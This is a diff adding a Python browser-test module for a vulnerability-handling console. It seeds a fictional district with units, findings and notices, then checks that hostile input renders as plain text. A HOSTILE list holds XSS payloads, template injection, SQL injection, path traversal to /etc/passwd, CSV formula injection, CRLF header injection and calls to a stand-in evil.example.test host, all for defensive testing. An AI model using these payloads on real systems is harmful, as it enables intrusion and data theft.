@@ -1,0 +1,152 @@
+"""The console in a real browser: web/tests/console.mjs plays officer, approver, unit and administrator on a made-up district."""
+import json
+import os
+import pathlib
+import subprocess
+import sys
+
+sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent))
+from support.desk import LAW, SIGNER, desk  # noqa: E402
+from support.harness import ROOT, case, check_equal, check_true, main  # noqa: E402
+
+PASSWORD = "practice-password-1"
+PEOPLE = ("officer", "approver", "officer2", "unitA", "unitB", "admin1", "auditor", "leader")
+NAMES = {"d1": "青山区网信办", "uA": "第一中学", "uB": "区人民医院", "uC": "自来水公司", "uD": "文化馆"}
+EVIDENCE = {"url": "https://ua.example.test/.git/HEAD", "status": 200, "headers": [{"name": "Content-Type", "value": "text/plain"}],
+            "pattern": "ref: refs/heads", "excerpt": "ref: refs/heads/main\n"}
+CHAIN = {"certificates": [{"position": 0, "role": "leaf", "subject": "CN=ua.example.test", "sha256": "ab" * 32, "fault": "expired 12 days ago"},
+                          {"position": 1, "role": "intermediate", "subject": "CN=Practice CA", "issuer": "CN=Practice Root", "sha256": "cd" * 32}]}
+DNS = {"name": "old.ua.example.test", "cname_chain": ["old.cdn.example.test", "gone.cloud.example.test"], "dns": "NXDOMAIN"}
+CHECKS = (("exposure.git_repository", "high", EVIDENCE), ("tls.certificate_expired", "critical", CHAIN), ("dns.dangling_cname", "medium", DNS),
+          ("header.hsts_missing", "low", {"header": "Strict-Transport-Security"}), ("http.version_disclosed", "info", {"header": "Server", "value": "nginx/1.18"}))
+
+# What hostile sites, files and people put into fields: markup, handlers, templates, addresses, marks that turn text around.
+HOSTILE = [
+    "<script>window.__hit=1</script>", "<img src=x onerror=window.__hit=2>", "<svg onload=window.__hit=3>", "\"><script>window.__hit=4</script>",
+    "'><img src=x onerror=window.__hit=5>", "javascript:window.__hit=6", "<a href=javascript:window.__hit=7>x</a>", "{{constructor.constructor('window.__hit=8')()}}",
+    "${window.__hit=9}", "<iframe srcdoc='<script>parent.__hit=10</script>'>", "<body onload=window.__hit=11>", "<details open ontoggle=window.__hit=12>",
+    "<input autofocus onfocus=window.__hit=13>", "<video><source onerror=window.__hit=14>", "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__hit=15>",
+    "<style>@import 'http://evil.example.test/x.css'</style>", "<link rel=stylesheet href=//evil.example.test/x.css>", "<base href=//evil.example.test/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example.test'>", "<object data=//evil.example.test>", "<embed src=//evil.example.test>",
+    "<form action=//evil.example.test><button>x", "<img src=//evil.example.test/pixel>", "\u202egnp.exe", "\u2066\u2067x\u2069", "a\u0000b".replace("\u0000", ""), "x" * 2000,
+    "</textarea><script>window.__hit=16</script>", "</title><script>window.__hit=17</script>", "<!--<script>window.__hit=18</script>-->", "]]><script>window.__hit=19</script>",
+    "<scr<script>ipt>window.__hit=20</scr</script>ipt>", "%3Cscript%3Ewindow.__hit=21%3C/script%3E", "&lt;script&gt;window.__hit=22&lt;/script&gt;",
+    "&#60;script&#62;window.__hit=23&#60;/script&#62;", "\\u003cscript\\u003ewindow.__hit=24", "<svg><animate onbegin=window.__hit=25 attributeName=x dur=1s>",
+    "<marquee onstart=window.__hit=26>", "<select autofocus onfocus=window.__hit=27>", "<div style=background:url(javascript:window.__hit=28)>",
+    "<x contenteditable onblur=window.__hit=29>", "<img src='x' onerror='fetch(\"//evil.example.test\")'>", "data:text/html,<script>window.__hit=30</script>",
+    "vbscript:window.__hit=31", "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "@:common.save", "{name}", "%s%n%x", "' OR 1=1 --", "../../../etc/passwd", "=cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://evil.example.test\")", "\r\nSet-Cookie: x=1", "<template v-html=x>", "v-on:click=window.__hit=32", "__proto__", "constructor", "null", "undefined", "NaN", "",
+]
+
+
+def with_passwords(d):
+    for name in PEOPLE:
+        d.admin.change(f"/users/{d.tokens[name][0]}", {"password": PASSWORD})
+
+
+def registry(d):
+    for unit, name in NAMES.items():
+        d.admin.change(f"/units/{unit}", {"name": name})
+    assets = {}
+    for unit in ("uA", "uB", "uC"):
+        system, own = d.system(unit, assets=[f"https://{unit.lower()}.example.test", f"https://oa.{unit.lower()}.example.test"])
+        assets[unit] = own
+        d.officer.change(f"/systems/{system}", {"name": f"{NAMES[unit]}门户网站"})
+    return assets
+
+
+def found(d, assets):
+    """Findings of every sort on every unit; new ones."""
+    ids = {}
+    for unit, own in assets.items():
+        results = [{**d.result(own[0], check=check, severity=severity, locator=f"/{check}"), "title": check, "evidence": evidence} for check, severity, evidence in CHECKS]
+        ids[unit] = d.run(own, results)["findings"]
+    return ids
+
+
+def district(d):
+    """People, units, findings, one case in each stage that needs no waiting."""
+    with_passwords(d)
+    assets = registry(d)
+    ids = found(d, assets)
+    for finding in ids["uB"][:3]:
+        d.officer.act(f"/findings/{finding}", "confirm")
+    issued = d.issued(d.case(ids["uB"][:2]), "uB", title="关于代码仓库泄露等问题的整改通知")
+    for finding in ids["uC"][:4]:
+        d.officer.act(f"/findings/{finding}", "confirm")
+    done = d.received(d.case(ids["uC"][:1]), "uC", d.unitC)
+    d.answer(done, d.unitC)
+    d.draft(d.case(ids["uC"][1:2]), "uC")
+    return {"assets": assets, "findings": ids, "issued": issued, "replied": done, "law": LAW, "signer": SIGNER}
+
+
+def hostile_district(d):
+    """The same with every text that the API takes made hostile."""
+    with_passwords(d)
+    assets = []
+    for number, text in enumerate(HOSTILE):
+        given = text or "empty"
+        made = d.officer.call("POST", "/units", {"id": f"h{number}", "name": given, "kind": "unit", "parent": "d1",
+                                                 "contacts": [{"role": "contact", "name": given, "phone": given[:40], "email": given[:80]}]}, (201, 400, 422))
+        if made.status != 201:
+            d.officer.make("/units", {"id": f"h{number}", "name": f"refused {number}", "kind": "unit", "parent": "d1"})
+        system = d.officer.call("POST", "/systems", {"unit": f"h{number}", "name": given}, (201, 400, 422))
+        system = system.json["id"] if system.status == 201 else d.officer.make("/systems", {"unit": f"h{number}", "name": "x"})["id"]
+        asset = d.officer.make("/assets", {"system": system, "value": f"https://h{number}.example.test"})["id"]
+        assets.append((number, asset, given))
+    findings = []
+    for number, asset, given in assets:
+        evidence = {"url": f"https://h{number}.example.test/", "status": 200, "headers": [{"name": "Server", "value": given}], "excerpt": given, "title": given, "pattern": given[:100]}
+        body = {"tool": "x", "targets": [d.target(asset)], "results": [{"asset": asset, "check": "exposure.git_repository", "locator": f"/{number}", "severity": "high",
+                                                                       "title": given, "evidence": evidence}]}
+        answer = d.officer.call("POST", "/runs", body, (201, 400, 422))
+        if answer.status == 201:
+            findings += answer.json["findings"]
+    check_true(len(findings) >= 50, f"{len(findings)} hostile findings were taken")
+    notices = []
+    for finding in findings:
+        record = d.officer.act(f"/findings/{finding}", "confirm")
+        opened = d.officer.make("/cases", {"findings": [finding], "title": record["title"] if isinstance(record["title"], str) else record["title"].get("zh", "x")})["id"]
+        d.officer.act(f"/cases/{opened}", "verify", {})
+        notices.append(d.draft(opened, record["unit"], internal_notes=HOSTILE[len(notices) % len(HOSTILE)]))
+    return {"findings": findings, "notices": notices, "units": [f"h{number}" for number, _, _ in assets]}
+
+
+def play(d, part, facts, seconds=540):
+    env = dict(os.environ, FENGSUI_URL=f"http://127.0.0.1:{d.port}", FENGSUI_PASSWORD=PASSWORD, FENGSUI_FACTS=json.dumps(facts),
+               FENGSUI_ADMIN_TOKEN=d.tokens["admin"][1])
+    done = subprocess.run(["node", "tests/console.mjs", part], cwd=ROOT / "web", env=env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
+                          stderr=subprocess.STDOUT, timeout=seconds)
+    print("\n".join("     " + line for line in done.stdout.decode(errors="replace").splitlines()), flush=True)
+    check_equal(done.returncode, 0, f"console.mjs {part}")
+
+
+def pages(tmp):
+    check_true((ROOT / "web/dist/index.html").exists(), "the pages are built (tools/build_web)")
+    (tmp / "serve.toml").write_text(f'web_root = "{ROOT / "web/dist"}"\n')
+    return ["--config", tmp / "serve.toml"]
+
+
+@case
+def the_loop_as_officer_approver_and_unit(tmp):
+    with desk(tmp, *pages(tmp)) as d:
+        facts = district(d)
+        play(d, "loop", facts)
+        notices = [one for one in d.officer.items("/notices") if one["recipient"] == "uA"]
+        check_equal([one["state"] for one in notices], ["replied"], "the notice that the pages made")
+        check_equal(len(d.officer.items(f"/responses?notice={notices[0]['id']}")), 1, "one reply, though it was sent over an ended session")
+
+
+@case
+def every_page_is_accessible(tmp):
+    with desk(tmp, *pages(tmp)) as d:
+        play(d, "access", district(d))
+
+
+@case
+def hostile_text_is_text(tmp):
+    with desk(tmp, *pages(tmp)) as d:
+        play(d, "hostile", hostile_district(d))
+
+
+main()
